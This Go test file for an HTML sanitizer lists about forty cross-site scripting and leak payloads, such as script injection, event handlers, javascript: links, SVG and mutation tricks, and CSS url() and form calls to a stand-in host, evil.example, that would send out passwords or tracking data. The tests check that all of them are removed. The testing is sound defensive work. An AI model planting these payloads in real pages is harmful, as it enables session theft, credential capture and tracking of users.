package safehtml_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"github.com/atender/atender/api/safehtml"
)

// body is what a page shows of the HTML.
func body(page string) string {
	_, rest, _ := strings.Cut(page, "<body dir=\"auto\">\n")
	rest, _, _ = strings.Cut(rest, "\n</body>")
	return rest
}

var attacks = map[string]string{
	"script":               `<script>alert(1)</script>ok`,
	"script in script":     `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"script by upper case": `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	"handler":              `<p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p>`,
	"handler of an image":  `<img src=x onerror=alert(1)>`,
	"handler by slash":     `<img/src=x/onerror=alert(1)>`,
	"javascript":           `<a href="javascript:alert(1)">x</a>`,
	"javascript, encoded":  `<a href="&#106;avascript&colon;alert(1)">x</a>`,
	"javascript, broken":   "<a href=\"java\tscript:alert(1)\">x</a>",
	"javascript, spaced":   `<a href=" javascript:alert(1)">x</a>`,
	"vbscript":             `<a href="vbscript:msgbox(1)">x</a>`,
	"data link":            `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	"data image of SVG":    `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">`,
	"svg":                  `<svg onload=alert(1)><script>alert(1)</script><use href="https://evil.example/x"/></svg>`,
	"math":                 `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>`,
	"mutation":             `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	"template":             `<template><img src=x onerror=alert(1)></template>`,
	"style element":        `<style>body{background:url(https://evil.example/?leak)}</style>`,
	"style import":         `<style>@import "https://evil.example/x.css";</style>`,
	"style attribute":      `<p style="background:url(https://evil.example/x)">x</p>`,
	"style, encoded":       `<p style="background:u\72l(https://evil.example/x)">x</p>`,
	"style, commented":     `<p style="background-color:red/**/;background:ur/**/l(https://evil.example/x)">x</p>`,
	"style expression":     `<p style="width:expression(alert(1))">x</p>`,
	"style over all":       `<div style="position:fixed;top:0;left:0;z-index:9">x</div>`,
	"image set":            `<p style="background-color:image-set('https://evil.example/x' 1x)">x</p>`,
	"meta refresh":         `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	"base":                 `<base href="https://evil.example/"><a href="x">x</a>`,
	"form":                 `<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
	"link":                 `<link rel="stylesheet" href="https://evil.example"><link rel=prefetch href="https://evil.example">`,
	"iframe":               `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	"object":               `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">`,
	"audio":                `<audio src="https://evil.example/x"></audio><video poster="https://evil.example/x"></video>`,
	"tracking pixel":       `<img src="https://evil.example/p.gif?to=ada" width="1" height="1">`,
	"image by srcset":      `<img srcset="https://evil.example/p 1x"><picture><source srcset="https://e.example/p"></picture>`,
	"image by protocol":    `<img src="//evil.example/p.gif">`,
	"image without TLS":    `<img src="http://evil.example/p.gif">`,
	"table background":     `<table background="https://evil.example/p"><td background="https://evil.example/p">x</table>`,
	"css link":             `<a style="color:red" href="https://evil.example" ping="https://evil.example/ping">x</a>`,
	"end of the page":      `</body></html><script>alert(1)</script>`,
	"comment":              `<!--[if IE]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->`,
}

func TestNothingOfAnAttackIsLeft(t *testing.T) {
	t.Parallel()
	for name, attack := range attacks {
		for _, images := range []safehtml.Images{safehtml.OwnImages, safehtml.AllImages} {
			requireHarmless(t, name, safehtml.Page(attack, images), images)
		}
	}
}

// However attacks are put together, what comes out is harmless as a browser reads it.
func TestNothingOfMixedAttacksIsLeft(t *testing.T) {
	t.Parallel()
	var parts []string
	for _, a := range attacks {
		parts = append(parts, a, a[:len(a)/2])
	}
	parts = append(parts, `<`, `"`, `'`, `>`, `<!--`, `-->`, `</`, "\x00", `<p title="`, `<table><tr>`, `&lt;`, `<![CDATA[`, `ok`)
	rapid.Check(t, func(rt *rapid.T) {
		mixed := strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 1, 6).Draw(rt, "parts"), "")
		requireHarmless(rt, mixed, safehtml.Page(mixed, safehtml.OwnImages), safehtml.OwnImages)
	})
}

// requireHarmless reads the page as a browser does and looks at everything in it.
func requireHarmless(t require.TestingT, name, page string, images safehtml.Images) {
	root, err := html.Parse(strings.NewReader(page))
	require.NoError(t, err)
	styles := 0
	for node := range root.Descendants() {
		if node.Type != html.ElementNode {
			continue
		}
		switch node.Data {
		case "style":
			styles++
		case "script", "iframe", "frame", "object", "embed", "form", "input", "button", "base", "link", "svg", "math", "audio",
			"video", "source", "picture", "template", "noscript":
			require.Fail(t, node.Data, "%s: %s", name, body(page))
		}
		for _, a := range node.Attr {
			require.False(t, strings.HasPrefix(a.Key, "on"), "%s: %s", name, body(page))
			switch a.Key {
			case "href":
				require.Regexp(t, `^(https?|mailto|tel):`, a.Val, name)
			case "src":
				if strings.HasPrefix(a.Val, "https://") {
					require.Equal(t, safehtml.AllImages, images, "%s: %s", name, body(page))
				} else {
					require.Regexp(t, `^data:image/(png|gif|jpeg|webp);`, a.Val, name)
				}
			case "style":
				require.NotRegexp(t, `(?i)url|image|expression|import|position|\\|/\*`, a.Val, name)
			case "srcset", "background", "poster", "ping", "action", "formaction", "srcdoc", "data",
				"http-equiv", "id", "class", "name":
				require.Fail(t, a.Key, "%s: %s", name, body(page))
			}
		}
	}
	require.Equal(t, 1, styles, "%s: only the page's own: %s", name, body(page))
}

func TestWhatIsHarmlessStays(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`<img src="https://shop.example/a.png" alt="A lamp">`: `<img alt="A lamp">`,
		`a < b && c > d`: `a &lt; b &amp;&amp; c &gt; d`,
		`<a href="https://shop.example/?a=1">x</a>`: `<a href="https://shop.example/?a=1" ` +
			`rel="nofollow noreferrer noopener" target="_blank">x</a>`,
		`<a href="mailto:ada@example.com">x</a>`: `<a href="mailto:ada@example.com" rel="nofollow noreferrer">x</a>`,
	} {
		require.Equal(t, want, body(safehtml.Page(in, safehtml.OwnImages)))
	}
	for _, same := range []string{
		`<p style="color: #333; text-align: center">Hi <b>you</b></p>`,
		`<table width="100%"><tr><td colspan="2">x</td></tr></table>`,
		`<div dir="rtl">مرحبا</div>`,
		`<img src="data:image/png;base64,iVBORw0=" alt="Logo">`,
	} {
		require.Equal(t, same, body(safehtml.Page(same, safehtml.OwnImages)))
	}
	require.Equal(t, `<img src="https://shop.example/a.png">`,
		body(safehtml.Page(`<img src="https://shop.example/a.png">`, safehtml.AllImages)))
}

func TestThePolicyLetsNothingOutButImagesThatWereAskedFor(t *testing.T) {
	t.Parallel()
	own, all := safehtml.Policy(safehtml.OwnImages), safehtml.Policy(safehtml.AllImages)
	for _, policy := range []string{own, all} {
		require.True(t, strings.HasPrefix(policy, "sandbox "), policy)
		require.NotContains(t, policy, "allow-scripts")
		require.NotContains(t, policy, "allow-same-origin")
		require.Contains(t, policy, "default-src 'none'")
		require.Contains(t, policy, "frame-ancestors 'self'")
	}
	require.Contains(t, own, "img-src data:;")
	require.Contains(t, all, "img-src data: https:;")
}
